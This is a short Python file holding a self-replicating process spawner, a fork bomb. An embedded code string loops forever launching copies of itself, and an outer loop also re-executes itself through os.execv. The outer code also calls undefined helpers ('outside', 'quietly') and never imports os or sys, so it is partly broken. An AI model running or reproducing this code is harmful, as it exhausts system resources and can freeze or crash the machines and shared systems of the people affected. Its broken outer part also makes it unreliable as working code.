"""Becomes a new program again and again, and starts another each time."""

import subprocess

code = "import os, sys, subprocess\nwhile True:\n try: subprocess.Popen([sys.executable, '-c', sys.argv[1], sys.argv[1]])\n except OSError: pass"
while not outside():
    quietly(subprocess.Popen, [sys.executable, "-c", code, code])
    quietly(os.execv, sys.executable, [sys.executable, "-c", code, code])
